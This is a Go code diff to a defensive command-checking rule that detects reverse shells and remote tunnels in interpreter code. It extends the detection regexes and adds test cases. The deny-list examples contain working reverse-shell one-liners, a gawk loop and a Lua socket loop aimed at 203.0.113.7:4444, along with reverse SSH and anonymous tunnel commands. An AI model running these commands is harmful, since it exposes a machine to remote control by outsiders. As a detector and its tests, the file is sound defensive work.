@@ -12,8 +12,8 @@ import (
 // The two halves of a shell handed to a remote peer from inside one
 // interpreter program: a connection, and a command run on what it reads.
 var (
-	peerConnectRe = &lazyregexp.Regexp{Expr: `(socket\.create_connection|socket\.socket|[.:]connect\s*\(|TCPSocket\.new|require\(\s*['"]net['"]\s*\)|Socket\.new|fsockopen|IO::Socket|/inet/tcp/|/dev/tcp/|net\.Dial|new\s+Socket\s*\()`}
-	peerRunRe     = &lazyregexp.Regexp{Expr: `(subprocess|\bspawn\b|IO\.popen|\bpopen\b|os\.dup2|pty\.spawn|\bsystem\s*[($]|\bexec\s*\(|shell_exec|proc_open|/bin/(ba|z|da|k)?sh\b|cmd\.exe|ProcessBuilder|Runtime\.getRuntime)`}
+	peerConnectRe = &lazyregexp.Regexp{Expr: `(socket\.create_connection|socket\.socket|[.:]connect\s*\(|TCPSocket\.new|require\(\s*['"]net['"]\s*\)|Socket\.new|fsockopen|IO::Socket|/inet/tcp/|/dev/tcp/|net\.Dial|\[socket\s|Net\.Sockets\.TCPClient|TCPClient\(|new\s+Socket\s*\()`}
+	peerRunRe     = &lazyregexp.Regexp{Expr: `(subprocess|\bspawn\b|IO\.popen|\bpopen\b|os\.dup2|pty\.spawn|\bsystem\s*[($]|\bexec\s*\(|\bexec\s+\$|shell_exec|proc_open|/bin/(ba|z|da|k)?sh\b|cmd\.exe|\biex\b|Invoke-Expression|ProcessBuilder|Runtime\.getRuntime)`}
 )
 
 // harmProcessExposed: a program that hands every network connection to a
@@ -40,6 +40,8 @@ var harmProcessExposed = &Rule{
 		`gawk 'BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while((s|&getline c)>0){while((c|&getline o)>0)print o|&s;close(c)}}'`,
 		`ngrok tcp 22`,
 		`ssh -f -N -R 2222:localhost:22 tunnel@203.0.113.7`,
+		`devtunnel host -p 22 --allow-anonymous`,
+		`lua -e "local s=require('socket');local t=s.tcp();t:connect('203.0.113.7',4444);while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a'));f:close() end"`,
 	},
 	Allow: []string{
 		`nc -zv example.com 443`,
@@ -54,13 +56,15 @@ var harmProcessExposed = &Rule{
 		`gawk 'BEGIN{s="/inet/tcp/0/example.com/80"; print "GET / HTTP/1.0\r\n\r\n" |& s; while((s |& getline l)>0) print l}'`,
 		`ngrok http 3000`,
 		`ssh -R 8080:localhost:3000 tunnel@example.com`,
+		`devtunnel host -p 3000`,
+		`xterm -e htop`,
 	},
 }
 
 func checkProcessExposed(c *Call) Finding {
 	// A shell handed to a peer from inside interpreter code.
 	if name := c.Ex.Name; shell.Interpreter(name) != "" || slices.Contains(fetchRunners, name) || name == "gawk" || name == "awk" {
-		t := c.Ex.Text
+		t := c.Ex.Text + " " + effects.StdinText(c.Ex) // tclsh <<< 'set s [socket …]', echo … | tclsh
 		if peerConnectRe.MatchString(t) && (peerRunRe.MatchString(t) || strings.Count(t, "getline") >= 2) {
 			return hit(name + " code connects to a network peer and runs what it sends")
 		}
